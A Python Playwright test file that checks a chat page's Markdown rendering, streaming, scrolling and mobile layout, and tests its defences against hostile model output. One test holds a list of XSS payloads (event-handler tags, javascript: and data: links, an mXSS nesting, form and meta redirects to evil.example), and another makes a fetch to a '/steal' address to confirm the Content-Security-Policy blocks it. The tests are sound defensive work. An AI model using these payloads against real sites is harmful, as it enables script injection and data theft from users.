"""The chat page renders answers as Markdown, safely (docs/API.md §7): Chromium against the twin.

Model output is untrusted: every render goes through DOMPurify, and the page's
Content-Security-Policy stops inline handlers and other origins should anything slip through.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.chat.page_support import (
    ANSWER,
    open_page,
    send,
    wait_state,
)
from tests.e2e.chat.twin import ChatTwin

CODE = 'print("streamed <b>safely</b>")'
MARKDOWN = f"""## Streaming notes

- first item
- second item
- third item

| measure | value |
|---------|-------|
| ttft | 310 ms |
| rate | 55 tok/s |

```python
{CODE}
```

After the code block the answer goes on for a while, word after word after word, so that
everything above is on the screen well before the stream comes to its end."""
# Records, every 20 ms, which Markdown parts of the last answer are on screen, the page's
# state when each first appeared, and marks the first heading's node to see if it is kept.
RECORDER = """() => {
  window.firstSeen = {};
  const parts = { heading: 'h2', items: 'li', cells: 'td', code: 'pre code', copy: 'button.copy' };
  setInterval(() => {
    const answers = document.querySelectorAll('.msg.assistant .text');
    const answer = answers[answers.length - 1];
    if (!answer) return;
    for (const [name, selector] of Object.entries(parts)) {
      if (!(name in firstSeen) && answer.querySelector(selector)) {
        firstSeen[name] = document.body.dataset.state;
      }
    }
    const heading = answer.querySelector('h2');
    if (heading && !window.heading) { window.heading = heading; heading.mark = 'first'; }
  }, 20);
}"""
# Attacks in the answer: each would set window.__pwned (or top.__pwned) if it ran, or load
# something from another origin.
HOSTILE = "\n\n".join(
    [
        "Here is some HTML:",
        "<img src=x onerror=\"window.__pwned = 'img'\">",
        "<script>window.__pwned = 'script'</script>",
        '<svg onload="window.__pwned = \'svg\'"><circle r="4"></circle></svg>',
        "<iframe src=\"javascript:top.__pwned = 'iframe-js'\"></iframe>",
        "<iframe srcdoc=\"<script>top.__pwned = 'srcdoc'</script>\"></iframe>",
        "<a href=\"javascript:window.__pwned = 'a-href'\">click me</a>",
        "[markdown link](javascript:window.__pwned='md-link')",
        "[data link](data:text/html,<script>top.__pwned=1</script>)",
        "<details open ontoggle=\"window.__pwned = 'details'\"><summary>s</summary>d</details>",
        '<div style="background: url(https://evil.example/style.png)"'
        " onmouseover=\"window.__pwned = 'div'\">hover</div>",
        '<form action="https://evil.example/steal">'
        '<input name="q" autofocus onfocus="window.__pwned = \'input\'"><button>go</button></form>',
        '<object data="https://evil.example/object"></object>'
        '<embed src="https://evil.example/embed">',
        '<link rel="stylesheet" href="https://evil.example/style.css">'
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        "<math><mtext><table><mglyph><style>"
        "<img src=x onerror=\"window.__pwned = 'mxss'\"></style></mglyph></table></mtext></math>",
        '<textarea id="prompt">shadow the page\'s prompt box</textarea>',
        "![tracking pixel](https://evil.example/pixel.png)",
        "A fine [link](https://example.com/docs) stays.",
    ]
)


@pytest.fixture
def page(browser: Browser, twin: ChatTwin) -> Iterator[Page]:
    page = open_page(
        browser,
        twin.url,
        viewport={"width": 960, "height": 720},
        permissions=["clipboard-read", "clipboard-write"],
    )
    yield page
    page.context.close()


def test_markdown_renders_while_streaming_and_code_can_be_copied(page: Page) -> None:
    page.evaluate(RECORDER)
    send(page, f"#! echo rate=40\n{MARKDOWN}")
    assert wait_state(page, "done", "error", "cut", timeout_s=30) == "done"
    # Every part appeared while the answer was still streaming
    assert page.evaluate("() => firstSeen") == {
        "heading": "streaming",
        "items": "streaming",
        "cells": "streaming",
        "code": "streaming",
        "copy": "streaming",
    }
    answer = page.locator(ANSWER)
    expect(answer.locator("h2")).to_have_text("Streaming notes")
    expect(answer.locator("li")).to_have_text(["first item", "second item", "third item"])
    expect(answer.locator("th")).to_have_text(["measure", "value"])
    expect(answer.locator("td")).to_have_text(["ttft", "310 ms", "rate", "55 tok/s"])
    assert answer.locator("pre code").inner_text().rstrip("\n") == CODE
    assert "##" not in answer.inner_text()
    assert "|---" not in answer.inner_text()
    # The heading finished early and kept its node through every later render (no flicker)
    assert page.evaluate("() => window.heading.isConnected && window.heading.mark") == ("first")
    # Copy puts the code, exactly, on the clipboard
    answer.get_by_role("button", name="Copy").click()
    expect(answer.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("() => navigator.clipboard.readText()").rstrip("\n") == CODE


def test_renders_at_most_once_per_animation_frame(page: Page) -> None:
    # Hold the page's animation frames: callbacks are queued, and run only when the test says.
    page.evaluate(
        """() => {
      window.heldFrames = [];
      window.requestAnimationFrame = (callback) => heldFrames.push(callback);
      window.cancelAnimationFrame = (id) => { heldFrames[id - 1] = null; };
      window.runFrames = () => {
        const due = heldFrames.filter(Boolean);
        heldFrames.length = 0;
        due.forEach((callback) => callback(performance.now()));
        return due.length;
      };
    }"""
    )
    send(page, "#! rate=30 tokens=60\nmany deltas")
    answer = page.locator(ANSWER)
    page.wait_for_function("() => turn && turn.tokens >= 5", polling=50)
    # Many deltas arrived, yet nothing was drawn and one frame is waiting for all of them
    assert answer.inner_text() == ""
    assert page.evaluate("() => heldFrames.filter(Boolean).length") == 1
    assert page.evaluate("() => runFrames()") == 1
    drawn = answer.inner_text()
    assert drawn
    seen = page.evaluate("() => turn.tokens")
    page.wait_for_function("seen => turn.tokens >= seen + 5", arg=seen, polling=50)
    assert answer.inner_text() == drawn
    assert page.evaluate("() => runFrames()") == 1
    assert len(answer.inner_text()) > len(drawn)
    # The end of the stream draws at once, frame or not
    page.get_by_role("button", name="Stop", exact=True).click()
    assert wait_state(page, "stopped") == "stopped"
    assert page.evaluate("() => heldFrames.filter(Boolean).length") == 0


def test_scroll_follows_the_answer_only_while_the_reader_is_at_the_bottom(page: Page) -> None:
    send(page, "#! rate=100 tokens=3000\na long answer")
    page.wait_for_function(
        "() => { const log = document.getElementById('log');"
        " return log.scrollHeight > log.clientHeight + 200; }"
    )
    gap = (
        "() => { const l = document.getElementById('log');"
        " return l.scrollHeight - l.scrollTop - l.clientHeight; }"
    )
    assert page.evaluate(gap) < 2  # following the answer
    # The reader scrolls up: the page leaves the position alone while the answer grows
    page.evaluate("() => { document.getElementById('log').scrollTop = 50; }")
    height = page.evaluate("() => document.getElementById('log').scrollHeight")
    page.wait_for_function("h => document.getElementById('log').scrollHeight > h + 100", arg=height)
    assert page.evaluate("() => document.getElementById('log').scrollTop") == 50
    # Back at the bottom, it follows again
    page.evaluate(
        "() => { const l = document.getElementById('log'); l.scrollTop = l.scrollHeight; }"
    )
    height = page.evaluate("() => document.getElementById('log').scrollHeight")
    page.wait_for_function("h => document.getElementById('log').scrollHeight > h + 100", arg=height)
    assert page.evaluate(gap) < 2
    page.get_by_role("button", name="Stop", exact=True).click()


def test_a_hostile_answer_runs_nothing_and_loads_nothing(browser: Browser, twin: ChatTwin) -> None:
    context = browser.new_context(viewport={"width": 960, "height": 720})
    requested: list[str] = []
    context.on("request", lambda request: requested.append(request.url))
    page = context.new_page()
    try:
        page.goto(twin.url + "/")
        expect(page.locator("#model option")).not_to_have_count(1)
        send(page, f"#! echo rate=200\n{HOSTILE}")
        assert wait_state(page, "done", "error", "cut") == "done"
        answer = page.locator(ANSWER)
        answer.hover()
        answer.locator("text=hover").hover()
        page.wait_for_timeout(500)  # anything scheduled by the payloads would have run by now
        assert page.evaluate("() => window.__pwned") is None
        # What the sanitizer left: no active or loading element, no handler, no style, no id
        found = page.evaluate(
            """() => {
          const answer = [...document.querySelectorAll('.msg.assistant .text')].pop();
          const all = [...answer.querySelectorAll('*')];
          return {
            tags: [...new Set(all.map((e) => e.tagName.toLowerCase()))].sort(),
            attributes: [...new Set(all.flatMap((e) => [...e.attributes].map((a) => a.name)))]
              .sort(),
            hrefs: [...answer.querySelectorAll('[href]')].map((e) => e.getAttribute('href')),
            promptIsThePages: document.getElementById('prompt').closest('#composer') !== null,
          };
        }"""
        )
        active = {"script", "iframe", "svg", "img", "object", "embed", "link", "base", "meta",
                  "style", "form", "input", "button", "textarea", "math"}  # fmt: skip
        assert active & set(found["tags"]) == set()
        risky = {"style", "id", "name", "srcset", "src", "action"}
        assert [a for a in found["attributes"] if a.startswith("on") or a in risky] == []
        assert found["hrefs"] == ["https://example.com/docs"]
        assert found["promptIsThePages"]
        expect(answer.get_by_role("link", name="link")).to_have_attribute(
            "rel", "noopener noreferrer"
        )
        # and nothing was fetched from anywhere but the twin
        assert requested
        assert [url for url in requested if not url.startswith(twin.url)] == []
    finally:
        context.close()


def test_the_policy_blocks_inline_handlers_and_other_origins(page: Page) -> None:
    # Should anything get past the sanitizer, the page's CSP is the second wall.
    result = page.evaluate(
        """async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation',
        (e) => violations.push(e.effectiveDirective));
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.__pwned = "handler"');
      document.body.append(button);
      button.click();
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = "script"';
      document.body.append(script);
      let fetched = 'yes';
      try { await fetch('http://127.0.0.2:9/steal'); } catch (e) { fetched = 'no'; }
      const img = document.createElement('img');
      img.src = 'http://127.0.0.2:9/pixel.png';
      document.body.append(img);
      await new Promise((resolve) => setTimeout(resolve, 300));
      const seen = [...new Set(violations)].sort();
      return { pwned: window.__pwned || null, fetched, violations: seen };
    }"""
    )
    assert result == {
        "pwned": None,
        "fetched": "no",
        "violations": ["connect-src", "img-src", "script-src-attr", "script-src-elem"],
    }


def test_markdown_fits_a_phone_screen(browser: Browser, twin: ChatTwin) -> None:
    page = open_page(browser, twin.url, viewport={"width": 390, "height": 844})
    try:
        wide = "| " + " | ".join(f"column{i}" for i in range(12)) + " |"
        rule = "|" + "---|" * 12
        code = "x = " + " + ".join(f"value_{i}" for i in range(40))
        send(page, f"#! echo\n{wide}\n{rule}\n{wide}\n\n```\n{code}\n```")
        assert wait_state(page, "done", "error", "cut") == "done"
        overflow = page.evaluate(
            "() => document.documentElement.scrollWidth - document.documentElement.clientWidth"
        )
        assert overflow <= 0
        expect(page.locator(ANSWER).locator("table")).to_be_visible()
        expect(page.get_by_role("button", name="Send", exact=True)).to_be_in_viewport()
        expect(page.get_by_role("button", name="Attach", exact=True)).to_be_in_viewport()
    finally:
        page.context.close()
